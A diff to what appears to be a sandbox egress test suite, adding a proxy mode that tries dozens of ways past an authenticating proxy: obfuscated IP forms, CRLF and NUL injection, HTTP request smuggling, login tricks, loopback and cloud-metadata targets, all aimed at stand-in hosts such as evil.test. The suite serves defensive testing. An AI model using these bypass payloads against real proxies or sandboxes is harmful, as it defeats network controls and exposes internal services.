@@ -1,10 +1,12 @@
 """What a step might try to get out, each a function that returns what it got: b"REACHED" is success.
 
 Standard library only: `python egress_attacks.py FOLDER` runs all of them, inside a step or outside, and prints
-one JSON object, name to outcome. Each would succeed with nothing in its way, on `internet_servers`.
+one JSON object, name to outcome. Each would succeed with nothing in its way, on `internet_servers`. With
+`--by-proxy` connections are asked of the proxy in `http_proxy`, and that proxy itself is tried as well.
 """
 
 import array
+import base64
 import contextlib
 import ctypes
 import json
@@ -17,6 +19,7 @@ import threading
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from functools import partial
+from urllib.parse import unquote, urlsplit
 
 
 def inherited() -> list[str]:
@@ -416,6 +419,172 @@ TELLING: dict[str, Callable[[], object]] = {
     "leak-any.api.example.net": lambda: tell(query(b"leak-any.api.example.net", 255)),
     "leak\0nul.evil.test": lambda: tell(query(b"leak\0nul.evil.test")),
 }
+
+
+# rundown's proxy, and what is left of sockets beside it.
+def way_in(login: bytes | None = None) -> tuple[socket.socket, bytes]:
+    """A connection to the proxy, and the header that shows the login."""
+    place = urlsplit(os.environ["http_proxy"])
+    own = f"{place.username or ''}:{unquote(place.password or '')}".encode()
+    shown = base64.b64encode(own if login is None else login)
+    sock = PLAIN((place.hostname, place.port), 5)
+    return sock, b"Proxy-Authorization: Basic " + shown + b"\r\n"
+
+
+def through(address: tuple, timeout: float = 3) -> socket.socket:
+    """A tunnel, as `create_connection` is a connection."""
+    sock, login = way_in()
+    place = b"%s:%d" % (address[0].encode(), address[1])
+    if ":" in address[0]:
+        place = b"[%s]:%d" % (address[0].encode(), address[1])
+    sock.sendall(b"CONNECT " + place + b" HTTP/1.1\r\nHost: " + place + b"\r\n" + login + b"\r\n")
+    head = b""
+    while b"\r\n\r\n" not in head:
+        byte = sock.recv(1)
+        if not byte:
+            raise OSError("hung up")
+        head += byte
+    if b" 200 " not in head.splitlines()[0]:
+        raise OSError(head.splitlines()[0].decode("latin-1"))
+    return sock
+
+
+def ask(*chunks: bytes, login: bytes | None = None, wanted: bytes = b"REACHED", pause: float = 0) -> bytes:
+    """Says something to the proxy, `@` standing for the login; returns REACHED if `wanted` comes back."""
+    sock, header = way_in(login)
+    for chunk in chunks:
+        sock.sendall(chunk.replace(b"@LOGIN\r\n", header))
+        if pause:
+            threading.Event().wait(pause)
+    sock.settimeout(1.5)
+    heard = b""
+    with contextlib.suppress(OSError):
+        while wanted not in heard and (chunk := sock.recv(4096)):
+            heard += chunk
+    return b"REACHED" if wanted in heard else b""
+
+
+def pair_to_path() -> bytes:
+    """One of a pair of sockets, turned to a socket of the host."""
+    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    one.sendto(b"hello", f"{FOLDER}/host.dgram")
+    return b"REACHED"
+
+
+def server_of_its_own() -> bytes:
+    """What listens on all addresses is asked from outside."""
+    sock = socket.socket()
+    sock.bind(("0.0.0.0", 0))
+    sock.listen()
+    return b"REACHED"
+
+
+def server_without_bind() -> bytes:
+    sock = socket.socket()
+    sock.listen()
+    return b"REACHED"
+
+
+def fast_open_by_message() -> bytes:
+    sock = socket.socket()
+    sock.sendmsg([b"x"], [], socket.MSG_FASTOPEN, (EVIL, 80))
+    return take(sock)
+
+
+def fast_open_by_option() -> bytes:
+    sock = socket.socket()
+    sock.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT
+    return b"REACHED"
+
+
+def other_ports_of_loopback() -> bytes:
+    return connect(socket.AF_INET, ("127.0.0.1", 7777))
+
+
+PLAIN = socket.create_connection
+END = b" HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n\r\n"
+FINE_80 = b"CONNECT api.example.net:80 HTTP/1.1\r\nHost: api.example.net:80\r\n"
+FINE_PLAIN = b"GET http://api.example.net/" + END
+OTHER_PLAIN = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n@LOGIN\r\n\r\n"
+DECIMAL = b"%d" % struct.unpack("!I", socket.inet_aton(EVIL))
+OWN: dict[str, Callable[[], bytes]] = {
+    function.__name__: function
+    for function in (
+        *(pair_to_path, server_of_its_own, server_without_bind),
+        *(fast_open_by_message, fast_open_by_option, other_ports_of_loopback),
+    )
+}
+for name, login in (("none", b""), ("user_alone", b"rundown:"), ("other", b"rundown:" + b"0" * 32)):
+    OWN[f"login_{name}"] = partial(ask, FINE_80 + b"@LOGIN\r\n\r\n", login=login, wanted=b" 200 ")
+OWN["login_missing"] = partial(ask, FINE_80 + b"\r\n", wanted=b" 200 ")
+OWN["login_twice"] = partial(
+    ask, FINE_80 + b"@LOGIN\r\nProxy-Authorization: Basic eDp5\r\n\r\n", wanted=b" 200 "
+)
+OWN["login_missing_in_the_second"] = partial(
+    ask, FINE_PLAIN, b"GET http://api.example.net/again HTTP/1.1\r\nHost: api.example.net\r\n\r\n",
+    wanted=b"good\x00never", pause=0.3,
+)  # fmt: skip
+for name, target in (
+    ("evil", b"evil.test:80"),
+    ("case", b"EVIL.Test.:80"),
+    ("decimal", DECIMAL + b":80"),
+    ("hex", b"0x" + socket.inet_aton(EVIL).hex().encode() + b":80"),
+    ("octal", b"0135.0270.0330.0102:80"),
+    ("short", b"93.184.55362:80"),
+    ("mapped", b"[::ffff:93.184.216.66]:80"),
+    ("mapped_hex", b"[::ffff:5db8:d842]:80"),
+    ("zone", b"[fe80::1%lo]:80"),
+    ("userinfo", b"api.example.net:80@evil.test:80"),
+    ("two_ports", b"api.example.net:80:evil.test:80"),
+    ("nul", b"api.example.net\0.evil.test:80"),
+    ("new_line", b"api.example.net:80\r\nX: y"),
+    ("line_feed", b"api.example.net:80\nHost: evil.test"),
+    ("blank", b"api.example.net:80 evil.test:80"),
+    ("percent", b"evil%2etest:80"),
+    ("port_hex", b"api.example.net:0x50"),
+    ("port_none", b"api.example.net"),
+    ("port_star", b"api.example.net:*"),
+    ("port_negative", b"api.example.net:-80"),
+    ("port_large", b"api.example.net:65616"),
+    ("port_unlisted", b"api.example.net:22"),
+    ("long", b"a" * 70000 + b".example.net:80"),
+    ("loopback", b"127.0.0.1:7777"),
+    ("loopback_name", b"localhost:7777"),
+    ("loopback_zero", b"0.0.0.0:7777"),
+    ("loopback_ipv6", b"[::1]:7777"),
+    ("metadata", b"169.254.169.254:80"),
+):
+    OWN[f"connect_{name}"] = partial(ask, b"CONNECT " + target + END, wanted=b" 200 ")
+for name, chunks, pause in (
+    ("evil", (OTHER_PLAIN,), 0),
+    ("userinfo", (b"GET http://api.example.net@evil.test/" + END,), 0),
+    ("backslash", (b"GET http://evil.test\\@api.example.net/" + END,), 0),
+    ("fragment", (b"GET http://evil.test#@api.example.net/" + END,), 0),
+    ("query", (b"GET http://evil.test?@api.example.net/" + END,), 0),
+    ("other_host", (b"GET http://api.example.net/ HTTP/1.1\r\nHost: evil.test\r\n@LOGIN\r\n\r\n",), 0),
+    ("own_form", (b"GET / HTTP/1.1\r\nHost: evil.test\r\n@LOGIN\r\n\r\n",), 0),
+    ("https_scheme", (b"GET https://evil.test/" + END,), 0),
+    ("ftp_scheme", (b"GET ftp://evil.test:80/" + END,), 0),
+    ("second_request", (FINE_PLAIN, OTHER_PLAIN), 0.4),
+    ("pipelined", (FINE_PLAIN + OTHER_PLAIN,), 0),
+    ("two_lengths", (
+        b"POST http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\nContent-Length: 4\r\n"
+        b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(OTHER) + OTHER + b"\r\n0\r\n\r\n",), 0),
+    ("length_named_by_connection", (
+        b"POST http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
+        b"Connection: content-length\r\nContent-Length: %d\r\n\r\n" % len(OTHER) + OTHER,), 0),
+    ("in_the_body", (
+        b"POST http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
+        b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % len(OTHER) + OTHER + b"\r\n0\r\n\r\n",), 0),
+    ("folded", (b"GET http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
+                b"X: y\r\n Host: evil.test\r\nHost: evil.test\r\n\r\n",), 0),
+    ("upgraded", (b"GET http://api.example.net/ HTTP/1.1\r\nHost: api.example.net\r\n@LOGIN\r\n"
+                  b"Connection: upgrade\r\nUpgrade: x\r\n\r\n" + OTHER,), 0),
+):  # fmt: skip
+    OWN[f"plain_{name}"] = partial(ask, *chunks, pause=pause)
+if "--by-proxy" in sys.argv:
+    ATTACKS.update({f"proxy_{name}": function for name, function in OWN.items()})
+    socket.create_connection = through  # type: ignore[assignment]
 
 
 def outcome(function: Callable[[], bytes]) -> str:
